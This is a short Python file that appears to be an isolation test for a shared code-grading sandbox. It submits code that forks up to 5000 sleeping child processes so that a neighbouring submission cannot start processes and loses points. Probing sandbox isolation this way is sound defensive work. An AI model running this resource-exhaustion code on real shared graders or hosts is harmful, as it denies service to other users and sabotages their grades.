"""Starts as many processes as it can, and keeps them while others are graded.

Success: a neighbor's code can start no process or thread and loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, time

        children = 0
        while children < 5000:
            try:
                if not os.fork():
                    time.sleep(25)
                    os._exit(0)
            except OSError:
                break
            children += 1
        print(children > 0)
        time.sleep(20)
    """
    )
